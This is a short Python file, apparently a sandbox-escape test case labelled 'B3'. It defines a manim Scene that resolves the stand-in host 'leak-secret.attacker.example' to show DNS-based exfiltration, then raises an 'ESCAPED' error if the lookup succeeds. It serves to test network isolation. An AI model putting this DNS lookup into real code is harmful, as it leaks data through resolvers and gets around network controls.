"""B3: DNS resolution (exfiltration through a resolver)."""

import socket

from manim import Scene


class NetDns(Scene):
    def construct(self):
        answer = socket.getaddrinfo("leak-secret.attacker.example", 80)
        raise RuntimeError(f"ESCAPED: resolved {answer}")
